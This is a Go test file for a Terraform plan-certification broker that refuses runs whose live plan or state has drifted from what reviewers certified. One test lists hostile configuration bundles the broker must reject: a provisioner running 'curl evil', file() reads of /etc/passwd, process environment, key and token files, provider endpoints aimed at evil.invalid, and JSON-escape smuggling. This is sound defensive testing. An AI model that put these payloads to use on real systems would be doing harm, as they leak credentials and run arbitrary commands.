package drift_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/seb-broker/seb/broker"
	"github.com/seb-broker/seb/drift"
	"github.com/seb-broker/seb/fixtures/sandboxcloud"
	"github.com/seb-broker/seb/internal/sandboxtest"
	"github.com/seb-broker/seb/internal/tftest"
	"github.com/seb-broker/seb/planparse"
)

func TestMain(m *testing.M) {
	os.Exit(tftest.MainWithProvider(m))
}

const configs = "../fixtures/terraform"

// env is one test's broker-side world: a token issuer, a sandbox that
// trusts only it, a state store and a runner.
type env struct {
	t      testing.TB
	issuer *broker.Issuer
	sb     *sandboxtest.Sandbox
	store  *drift.FileStateStore
	runner *drift.Runner
	work   string
	// cliConfig is the Terraform CLI configuration: the provider mirror only.
	cliConfig string
}

func newEnv(t testing.TB, opts sandboxcloud.Options) *env {
	t.Helper()
	return newEnvWith(t, opts, nil)
}

// newEnvWith is newEnv with the engine's options changed by configure.
func newEnvWith(t testing.TB, opts sandboxcloud.Options, configure func(*drift.Options)) *env {
	t.Helper()
	issuer := sandboxtest.StartIssuer(t)
	opts.Issuer = issuer.URL()
	if opts.StatePath == "" {
		opts.StatePath = filepath.Join(t.TempDir(), "sandbox.json")
	}
	sb := sandboxtest.StartWith(t, opts)
	store, err := drift.NewFileStateStore(filepath.Join(t.TempDir(), "state"))
	if err != nil {
		t.Fatal(err)
	}
	cliConfig := filepath.Join(t.TempDir(), "terraform.rc")
	if err := os.WriteFile(cliConfig, []byte(tftest.CLIConfig(tftest.Mirror(t))), 0o600); err != nil {
		t.Fatal(err)
	}
	engine := tftest.EngineOptions(t)
	engine.SensitiveKey = []byte("drift test key for sensitive values")
	if configure != nil {
		configure(&engine)
	}
	work := engine.WorkRoot
	runner, err := drift.New(context.Background(), engine)
	if err != nil {
		t.Fatal(err)
	}
	return &env{t: t, issuer: issuer, sb: sb, store: store, runner: runner, work: work, cliConfig: cliConfig}
}

func (e *env) workdir(config string) *drift.Workdir {
	e.t.Helper()
	w, err := e.runner.NewWorkdirFromDirectory(filepath.Join(configs, config))
	if err != nil {
		e.t.Fatal(err)
	}
	e.t.Cleanup(func() { w.Close() })
	return w
}

// certify plans config with vars against the workspace's current state and
// returns the summary a reviewer would certify.
func (e *env) certify(workspace, config string, vars map[string]string) *planparse.Summary {
	e.t.Helper()
	state, err := e.store.Current(context.Background(), workspace)
	if err != nil {
		e.t.Fatal(err)
	}
	p, err := e.workdir(config).Plan(context.Background(), drift.PlanRequest{
		Vars: vars, State: state, Credentials: e.sb.Credentials(e.issuer, workspace),
	})
	if err != nil {
		e.t.Fatal(err)
	}
	return p.Plan.Summary
}

func (e *env) execute(workspace, config string, vars map[string]string, certified *planparse.Summary, mode drift.Mode) (*drift.ExecuteResult, error) {
	e.t.Helper()
	return e.workdir(config).Execute(context.Background(), drift.ExecuteRequest{
		Workspace: workspace, Vars: vars, Certified: certified, Mode: mode,
		Credentials: e.sb.Credentials(e.issuer, workspace), State: e.store,
	})
}

// run certifies and executes in one go, as a first apply.
func (e *env) run(workspace, config string, vars map[string]string) {
	e.t.Helper()
	if _, err := e.execute(workspace, config, vars, e.certify(workspace, config, vars), drift.ModeDefault); err != nil {
		e.t.Fatal(err)
	}
}

func replicas(n string) map[string]string { return map[string]string{"replicas": n} }

func attr(t *testing.T, changes []planparse.AttributeChange, path string) (before, after string) {
	t.Helper()
	for _, c := range changes {
		if c.Path.String() == path {
			return planparse.FormatValue(c.Before), planparse.FormatValue(c.After)
		}
	}
	t.Fatalf("no change of %s in %+v", path, changes)
	return "", ""
}

// TestCleanRun: the live plan matches the certified one, the saved plan is
// applied, the sandbox shows the new value, and the plan step only read.
func TestCleanRun(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	e.run("prod", "scale", replicas("3"))
	if got := e.sb.Service("prod", "web").Replicas; got != 3 {
		t.Fatalf("first apply: replicas %d", got)
	}
	certified := e.certify("prod", "scale", replicas("5"))
	before := len(e.sb.Requests())
	res, err := e.execute("prod", "scale", replicas("5"), certified, drift.ModeDefault)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stage != drift.StageDone || !res.Decision.Accepted || res.Apply.Outcome != drift.Succeeded || res.StateVersion == nil || res.StateVersion.Serial != 2 {
		t.Fatalf("result: stage %s, decision %+v, apply %+v, state %+v", res.Stage, res.Decision, res.Apply, res.StateVersion)
	}
	if got := e.sb.Service("prod", "web").Replicas; got != 5 {
		t.Errorf("after apply: replicas %d", got)
	}
	var planReads, applyWrites int
	for _, r := range e.sb.Requests()[before:] {
		switch {
		case r.Phase == "plan" && r.Method != "GET":
			t.Errorf("plan-phase credential made %s %s", r.Method, r.Path)
		case r.Phase == "plan":
			planReads++
		case r.Method != "GET" && r.Phase == "apply":
			applyWrites++
		}
	}
	if planReads == 0 || applyWrites != 1 {
		t.Errorf("%d plan-phase reads and %d apply-phase writes; want some reads and the one update", planReads, applyWrites)
	}
	if !bytes.Contains(res.Plan.JSON, []byte(`"format_version"`)) {
		t.Error("no plan JSON kept")
	}
	t.Logf("timings: %+v", res.Timings)
}

// TestSeedScenario: certified 3 → 5, then someone scales to 7 by hand. The
// run is refused, naming replicas with certified before 3 and live before
// 7, and nothing is applied.
func TestSeedScenario(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	e.run("prod", "scale", replicas("3"))
	certified := e.certify("prod", "scale", replicas("5"))
	web := e.sb.Service("prod", "web")
	e.sb.Scale(web.ID, 7)

	res, err := e.execute("prod", "scale", replicas("5"), certified, drift.ModeDefault)
	if !errors.Is(err, drift.ErrRefused) || res.Stage != drift.StageComparing || res.Apply != nil {
		t.Fatalf("err %v, stage %s, apply %+v", err, res.Stage, res.Apply)
	}
	d := res.Decision.Divergence
	if len(d.Resources) != 1 || d.Resources[0].Address != "sandbox_service.web" || len(d.Resources[0].Attributes) != 1 {
		t.Fatalf("divergence %+v", d)
	}
	a := d.Resources[0].Attributes[0]
	if a.Path.String() != "replicas" || planparse.FormatValue(a.Certified.Before) != "3" || planparse.FormatValue(a.Live.Before) != "7" ||
		planparse.FormatValue(a.Certified.After) != "5" || planparse.FormatValue(a.Live.After) != "5" {
		t.Errorf("replicas: certified %+v, live %+v", a.Certified, a.Live)
	}
	if got := e.sb.Service("prod", "web").Replicas; got != 7 {
		t.Errorf("replicas %d after a refused run", got)
	}
	if versions, _ := e.store.History("prod"); len(versions) != 1 {
		t.Errorf("%d state versions after a refused run", len(versions))
	}
}

// driftConfig has a service whose replicas are the change and a second
// service whose replicas Terraform ignores, so that scaling it by hand is
// drift without a diff.
const driftConfig = `terraform {
  required_providers {
    sandbox = { source = "seb.invalid/seb/sandbox" }
  }
}

variable "replicas" {
  type = number
}

resource "sandbox_service" "web" {
  name     = "web"
  image    = "nginx:1.27"
  replicas = var.replicas
}

resource "sandbox_service" "api" {
  name     = "api"
  image    = "api:2"
  replicas = 2

  lifecycle {
    ignore_changes = [replicas]
  }
}
`

func writeConfig(t *testing.T, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	for name, content := range files {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestDriftRule: drift on a resource the certified diff changes refuses
// the run; drift on an untouched resource is accepted in the default mode
// and refused in strict mode.
func TestDriftRule(t *testing.T) {
	t.Run("on an attribute the diff does not change, of a touched resource", func(t *testing.T) {
		e := newEnv(t, sandboxcloud.Options{})
		e.run("prod", "scale", replicas("3"))
		certified := e.certify("prod", "scale", replicas("5"))
		web := e.sb.Service("prod", "web")
		if status := e.sb.Console("PATCH", "services/"+web.ID, map[string]any{"image": "nginx:evil"}, nil); status != 200 {
			t.Fatal(status)
		}
		res, err := e.execute("prod", "scale", replicas("5"), certified, drift.ModeDefault)
		if !errors.Is(err, drift.ErrRefused) || res.Apply != nil {
			t.Fatalf("not refused: %v %+v", err, res.Decision)
		}
		if got := e.sb.Service("prod", "web"); got.Image != "nginx:evil" || got.Replicas != 3 {
			t.Errorf("a refused run changed the service: %+v", got)
		}
	})
	dir := writeConfig(t, map[string]string{"main.tf": driftConfig})
	for mode, wantAccepted := range map[drift.Mode]bool{drift.ModeDefault: true, drift.ModeStrict: false} {
		t.Run("on an untouched resource, "+string(mode), func(t *testing.T) {
			e := newEnv(t, sandboxcloud.Options{})
			ctx := context.Background()
			bootstrap := func(vars map[string]string) (*planparse.Summary, *drift.Workdir) {
				w, err := e.runner.NewWorkdirFromDirectory(dir)
				if err != nil {
					t.Fatal(err)
				}
				t.Cleanup(func() { w.Close() })
				state, _ := e.store.Current(ctx, "prod")
				p, err := w.Plan(ctx, drift.PlanRequest{Vars: vars, State: state, Credentials: e.sb.Credentials(e.issuer, "prod")})
				if err != nil {
					t.Fatal(err)
				}
				return p.Plan.Summary, w
			}
			first, w := bootstrap(replicas("3"))
			if _, err := w.Execute(ctx, drift.ExecuteRequest{Workspace: "prod", Vars: replicas("3"), Certified: first, Mode: mode,
				Credentials: e.sb.Credentials(e.issuer, "prod"), State: e.store}); err != nil {
				t.Fatal(err)
			}
			certified, _ := bootstrap(replicas("5"))
			e.sb.Scale(e.sb.Service("prod", "api").ID, 9)

			_, w = bootstrap(replicas("5"))
			res, err := w.Execute(ctx, drift.ExecuteRequest{Workspace: "prod", Vars: replicas("5"), Certified: certified, Mode: mode,
				Credentials: e.sb.Credentials(e.issuer, "prod"), State: e.store})
			if len(res.Plan.Plan.Drift) == 0 {
				t.Fatal("Terraform reported no drift for the scaled api service")
			}
			if res.Decision.Accepted != wantAccepted {
				t.Fatalf("accepted %v, want %v: %v %+v", res.Decision.Accepted, wantAccepted, err, res.Decision)
			}
			if !wantAccepted {
				if !errors.Is(err, drift.ErrRefused) || len(res.Decision.Drift) != 1 || res.Decision.Drift[0].Address != "sandbox_service.api" {
					t.Errorf("refusal: %v, drift %+v", err, res.Decision.Drift)
				}
				if b, a := attr(t, res.Decision.Drift[0].Changes, "replicas"); b != "2" || a != "9" {
					t.Errorf("drift replicas %s -> %s", b, a)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := e.sb.Service("prod", "web").Replicas; got != 5 {
				t.Errorf("web replicas %d", got)
			}
		})
	}
}

// TestChangedConfiguration: a bundle whose configuration gives another
// diff than the certified one is refused with the divergence.
func TestChangedConfiguration(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	e.run("prod", "scale", replicas("3"))
	certified := e.certify("prod", "scale", replicas("5"))
	res, err := e.execute("prod", "scale", replicas("6"), certified, drift.ModeDefault)
	if !errors.Is(err, drift.ErrRefused) {
		t.Fatalf("not refused: %v", err)
	}
	a := res.Decision.Divergence.Resources[0].Attributes[0]
	if planparse.FormatValue(a.Certified.After) != "5" || planparse.FormatValue(a.Live.After) != "6" {
		t.Errorf("divergence %+v / %+v", a.Certified, a.Live)
	}
	if got := e.sb.Service("prod", "web").Replicas; got != 3 {
		t.Errorf("replicas %d", got)
	}
}

// TestRefusedConfigurations: what a bundle must not bring is refused
// before Terraform runs, and no workdir is left behind. Several cases are
// attacks a review proved: reading the broker's keys with file(), a
// provisioner smuggled in an archive module, a provider endpoint that sends
// the apply token elsewhere.
func TestRefusedConfigurations(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	main := `resource "sandbox_service" "web" {
  name  = "web"
  image = "nginx"
}
`
	tests := []struct {
		name    string
		files   map[string]string
		wantMsg string
	}{
		{"backend", map[string]string{"main.tf": main, "backend.tf": "terraform {\n  backend \"s3\" {}\n}\n"}, `declares backend "s3"`},
		{"cloud", map[string]string{"main.tf": main, "cloud.tf": "terraform {\n  cloud {}\n}\n"}, "declares a cloud block"},
		{"backend in JSON", map[string]string{"main.tf": main, "b.tf.json": `{"terraform":{"backend":{"http":{}}}}`}, `declares backend "http"`},
		{"provisioner in a module", map[string]string{"main.tf": main, "modules/x/main.tf": "resource \"sandbox_bucket\" \"b\" {\n  name = \"bb-b\"\n  provisioner \"local-exec\" {\n    command = \"curl evil\"\n  }\n}\n"}, `"local-exec" provisioner`},
		{"backend in an OpenTofu file", map[string]string{"main.tf": main, "evil.tofu": "terraform {\n  backend \"s3\" {}\n}\n"}, `declares backend "s3"`},
		{"file that does not parse", map[string]string{"main.tf": main, "broken.tf": "resource \"x\" {"}, "does not parse"},
		{"registry module", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"hashicorp/consul/aws\"\n}\n"}, "not a local directory"},
		{"archive module", map[string]string{"main.tf": main, "lib.tgz": "x", "m.tf": "module \"m\" {\n  source = \"/proc/self/cwd/lib.tgz\"\n}\n"}, "not a local directory"},
		{"http module", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"http://127.0.0.1:1/m.tgz\"\n}\n"}, "not a local directory"},
		{"module outside the bundle", map[string]string{"main.tf": main, "m.tf": "module \"m\" {\n  source = \"../../etc\"\n}\n"}, "leaves the bundle"},
		{"module in JSON", map[string]string{"main.tf": main, "m.tf.json": `{"module":{"m":{"source":"git::https://example.invalid/m.git"}}}`}, "not a local directory"},
		{"provider endpoint", map[string]string{"main.tf": main + "provider \"sandbox\" {\n  endpoint = \"http://evil.invalid\"\n}\n"}, `sets "endpoint"`},
		{"provider endpoint in JSON", map[string]string{"main.tf": main, "p.tf.json": `{"provider":{"sandbox":{"endpoint":"http://evil.invalid"}}}`}, `sets "endpoint"`},
		{"file outside the configuration", map[string]string{"main.tf": main + "output \"k\" {\n  value = file(\"${path.root}/../../keys/k.pem\")\n}\n"}, "file(): the path must be a literal inside"},
		{"fileset over the data directory", map[string]string{"main.tf": main + "output \"k\" {\n  value = fileset(\"${path.root}/../..\", \"**/*.pem\")\n}\n"}, "fileset()"},
		{"file of a computed path", map[string]string{"main.tf": main + "resource \"terraform_data\" \"x\" {\n  input = file(terraform_data.y.id == \"\" ? \"/nonexistent\" : \"${path.root}/secrets/apply.token\")\n}\n"}, "file()"},
		{"file of an absolute path", map[string]string{"main.tf": main + "locals {\n  env = core::file(\"/proc/self/environ\")\n}\n"}, "file()"},
		{"file function in JSON", map[string]string{"main.tf": main, "o.tf.json": `{"output":{"k":{"value":"${file(\"/etc/passwd\")}"}}}`}, "file functions are not allowed"},
		{"provisioner on terraform_data", map[string]string{"main.tf": main + "resource \"terraform_data\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"id\"\n  }\n}\n"}, `"local-exec" provisioner`},
		{"plugins", map[string]string{"main.tf": main, "terraform.d/plugins/x": "binary"}, "terraform.d"},
		{"provisioner key spelled with a JSON escape", map[string]string{"main.tf": main, "x.tf.json": `{"resource":{"terraform_data":{"x":{"\u0070rovisioner":[{"local-exec":{"command":"id"}}]}}}}`}, "has a provisioner"},
		{"file function spelled with a JSON escape", map[string]string{"main.tf": main, "x.tf.json": `{"output":{"k":{"value":"${\u0066ile(\"/etc/passwd\")}"}}}`}, "file functions are not allowed"},
		{"duplicate JSON keys hiding a backend", map[string]string{"main.tf": main, "x.tf.json": `{"terraform":{"backend":{"http":{"address":"http://evil"}}},"terraform":{}}`}, "appears twice"},
		{"duplicate JSON keys hiding a provider endpoint", map[string]string{"main.tf": main, "x.tf.json": `{"provider":{"sandbox":{"endpoint":"http://evil"}},"provider":{"sandbox":{"alias":"a"}}}`}, "appears twice"},
		{"terraform_remote_state", map[string]string{"main.tf": main + "data \"terraform_remote_state\" \"k\" {\n  backend = \"local\"\n}\n"}, "reads another state"},
		{"terraform_remote_state in JSON", map[string]string{"main.tf": main, "x.tf.json": `{"data":{"terraform_remote_state":{"k":{"backend":"local"}}}}`}, "reads another state"},
		{"provisioner in a removed block", map[string]string{"main.tf": main + "removed {\n  from = terraform_data.x\n  provisioner \"local-exec\" {\n    when = destroy\n    command = \"id\"\n  }\n}\n"}, `"local-exec" provisioner`},
		{"plantimestamp", map[string]string{"main.tf": main + "output \"t\" { value = plantimestamp() }\n"}, "changes at every plan"},
		{"plantimestamp in JSON", map[string]string{"main.tf": main, "x.tf.json": `{"output":{"t":{"value":"${plantimestamp()}"}}}`}, "changes at every plan"},
		{"variable file", map[string]string{"main.tf": main, "terraform.tfvars": "image = \"evil\"\n"}, "variable files"},
		{"auto variable file", map[string]string{"main.tf": main, "x.auto.tfvars.json": `{"image":"evil"}`}, "variable files"},
		{"override file", map[string]string{"main.tf": main, "main_override.tf": main}, "override files"},
		{"override file in JSON", map[string]string{"main.tf": main, "override.tf.json": "{}"}, "override files"},
		{"state", map[string]string{"main.tf": main, "terraform.tfstate": "{}"}, "state files are not allowed"},
		{"provider binaries", map[string]string{"main.tf": main, ".terraform/providers/x": "binary"}, ".terraform directories are not allowed"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := writeConfig(t, tt.files)
			_, err := e.runner.NewWorkdir(bytes.NewReader(tarGz(t, tt.files)))
			if err == nil || !strings.Contains(err.Error(), tt.wantMsg) {
				t.Errorf("bundle: error %v, want one saying %q", err, tt.wantMsg)
			}
			if err != nil && !drift.IsRefusal(err) {
				t.Errorf("bundle: %v is not a refusal: the broker would blame itself", err)
			}
			// A local directory (seb's own use) may hold state or a data
			// directory: they are left out, never copied.
			w, err := e.runner.NewWorkdirFromDirectory(dir)
			switch {
			case tt.name == "state" || tt.name == "provider binaries" || tt.name == "plugins" && err == nil:
				if err != nil {
					t.Fatalf("directory: %v", err)
				}
				for name := range tt.files {
					if _, serr := os.Stat(filepath.Join(w.Dir, name)); name != "main.tf" && serr == nil {
						t.Errorf("directory: %s was copied", name)
					}
				}
				w.Close()
			case err == nil || !strings.Contains(err.Error(), tt.wantMsg):
				t.Errorf("directory: error %v, want one saying %q", err, tt.wantMsg)
			}
			if left, _ := filepath.Glob(filepath.Join(e.work, "seb-run-*")); len(left) != 0 {
				t.Errorf("left behind: %v", left)
			}
		})
	}
}

// TestSerializedRuns: two runs of one certified diff on one workspace at
// once: the lock serializes them, the second sees the state the first
// wrote and is refused, because its live plan no longer has that diff.
func TestSerializedRuns(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	e.run("prod", "scale", replicas("3"))
	certified := e.certify("prod", "scale", replicas("5"))
	var wg sync.WaitGroup
	errs := make([]error, 2)
	for i := range errs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, errs[i] = e.execute("prod", "scale", replicas("5"), certified, drift.ModeDefault)
		}()
	}
	wg.Wait()
	applied, refused := 0, 0
	for _, err := range errs {
		switch {
		case err == nil:
			applied++
		case errors.Is(err, drift.ErrRefused):
			refused++
		default:
			t.Errorf("run failed: %v", err)
		}
	}
	if applied != 1 || refused != 1 {
		t.Errorf("%d applied, %d refused; want one of each", applied, refused)
	}
	if versions, _ := e.store.History("prod"); len(versions) != 2 {
		t.Errorf("%d state versions, want 2", len(versions))
	}
}

// cancelOnApply cancels a context shortly after the apply-phase credential
// is asked for, that is, once the apply has started.
type cancelOnApply struct {
	drift.Credentials
	cancel context.CancelFunc
	after  time.Duration
}

func (c cancelOnApply) Env(ctx context.Context, phase drift.Phase, dir string) (map[string]string, error) {
	if phase == drift.PhaseApply {
		time.AfterFunc(c.after, c.cancel)
	}
	return c.Credentials.Env(ctx, phase, dir)
}

// TestCancelMidApply: cancelling during the apply interrupts Terraform
// cleanly; the state it wrote is stored, and the outcome says
// interrupted. The stored state never claims an object that does not
// exist; it may miss objects whose create was in flight — Terraform
// cancels its provider's requests, which the API may still complete —
// which is why the broker holds a workspace whose apply was interrupted
// for reconciliation (broker and cmd/seb crash tests).
func TestCancelMidApply(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{MutationDelay: 2 * time.Second})
	certified := e.certify("prod", "platform", nil)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	creds := cancelOnApply{Credentials: e.sb.Credentials(e.issuer, "prod"), cancel: cancel, after: 500 * time.Millisecond}
	res, err := e.workdir("platform").Execute(ctx, drift.ExecuteRequest{Workspace: "prod", Certified: certified, Mode: drift.ModeDefault,
		Credentials: creds, State: e.store})
	if err == nil || res.Apply == nil || res.Apply.Outcome != drift.Interrupted {
		t.Fatalf("err %v, stage %s, outcome %+v", err, res.Stage, res.Apply)
	}
	if res.StateVersion == nil {
		t.Fatal("the interrupted apply's state was not stored")
	}
	// Every object the stored state knows exists: a plan of the same
	// configuration changes and destroys nothing, and creates at least
	// what is missing.
	existing := len(e.sb.Services()) + countOthers(e)
	next := e.certify("prod", "platform", nil)
	if c := next.Count(); c.Destroy != 0 || c.Change != 0 || c.Add < 7-existing || c.Add > 7 {
		t.Errorf("after the interruption %d objects exist, and the next plan is %+v", existing, c)
	}
}

// tarGz packs files (name → content) as a gzip'd tar, as an agent would.
func tarGz(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(files[name])), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(files[name]))
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	gz.Close()
	return buf.Bytes()
}

func countOthers(e *env) int {
	var list struct{ Items []sandboxcloud.FirewallRule }
	e.sb.Console("GET", "firewall_rules", nil, &list)
	var buckets struct{ Items []sandboxcloud.Bucket }
	e.sb.Console("GET", "buckets", nil, &buckets)
	return len(list.Items) + len(buckets.Items)
}

// TestDecideAcknowledgedDrift: drift the reviewers saw in the certified
// plan is not new drift; anything else on a certified resource is.
func TestDecideAcknowledgedDrift(t *testing.T) {
	parse := func(drift string) *planparse.Plan {
		p, err := planparse.Parse(strings.NewReader(`{"format_version":"1.2","resource_changes":[
		  {"address":"s.web","mode":"managed","type":"s","name":"web","provider_name":"p",
		   "change":{"actions":["update"],"before":{"replicas":7},"after":{"replicas":5}}}],
		  "resource_drift":[{"address":"s.web","mode":"managed","type":"s","name":"web","provider_name":"p",
		   "change":{"actions":["update"],"before":{"replicas":3},"after":{"replicas":`+drift+`}}}]}`),
			planparse.Options{SensitiveKey: []byte("k")})
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	certified := parse("7")
	for _, mode := range []drift.Mode{drift.ModeDefault, drift.ModeStrict} {
		if d := drift.Decide(certified.Summary, parse("7"), mode, certified.Drift); !d.Accepted {
			t.Errorf("%s: the acknowledged drift refused the run: %s", mode, d.Reason)
		}
		if d := drift.Decide(certified.Summary, parse("7"), mode, nil); d.Accepted {
			t.Errorf("%s: unacknowledged drift on a certified resource was accepted", mode)
		}
		if d := drift.Decide(certified.Summary, parse("8"), mode, certified.Drift); d.Accepted || len(d.Drift) != 1 {
			t.Errorf("%s: new drift was accepted: %+v", mode, d)
		}
	}
}

// TestAllowedFileFunctions: reading files of the configuration itself
// stays possible.
func TestAllowedFileFunctions(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	dir := writeConfig(t, map[string]string{
		"main.tf":           "output \"a\" {\n  value = file(\"data/a.txt\")\n}\noutput \"b\" {\n  value = file(\"${path.module}/data/a.txt\")\n}\nmodule \"m\" {\n  source = \"./modules/m\"\n}\n",
		"data/a.txt":        "hello",
		"modules/m/main.tf": "output \"c\" {\n  value = templatefile(\"${path.module}/t.tpl\", {})\n}\n",
		"modules/m/t.tpl":   "tpl",
	})
	w, err := e.runner.NewWorkdirFromDirectory(dir)
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
}

// TestPlanErrorsSayWhy: a failing plan's error carries Terraform's
// diagnostics, which -json mode writes to the log, not to stderr.
func TestPlanErrorsSayWhy(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	dir := writeConfig(t, map[string]string{"main.tf": driftConfig})
	w, err := e.runner.NewWorkdirFromDirectory(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	_, err = w.Plan(context.Background(), drift.PlanRequest{Vars: map[string]string{"replicas": "5000"}, Credentials: e.sb.Credentials(e.issuer, "prod")})
	if err == nil || !strings.Contains(err.Error(), "replicas") {
		t.Fatalf("error %v, want one naming replicas", err)
	}
}

// TestWorkdirFailureIsNotRefusal: when the broker cannot make a workdir at
// all, that is its own failure, not the sender's bundle being refused.
func TestWorkdirFailureIsNotRefusal(t *testing.T) {
	e := newEnv(t, sandboxcloud.Options{})
	if err := os.RemoveAll(e.work); err != nil {
		t.Fatal(err)
	}
	files := map[string]string{"main.tf": "variable \"x\" {}\n"}
	_, err := e.runner.NewWorkdir(bytes.NewReader(tarGz(t, files)))
	if err == nil || drift.IsRefusal(err) {
		t.Errorf("NewWorkdir with its work root gone: %v; want an error that is not a refusal", err)
	}
}
